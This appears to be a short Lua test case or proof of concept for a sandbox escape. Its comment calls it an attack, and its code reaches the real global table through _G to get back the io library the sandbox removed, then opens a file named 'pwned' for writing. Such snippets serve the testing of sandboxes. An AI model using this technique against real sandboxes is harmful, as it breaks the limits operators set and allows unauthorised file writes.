-- Attack: go through _G to the real global table, where io and os were
-- before the sandbox removed them.
local io_lib = _G.io
io_lib.open("pwned", "w")
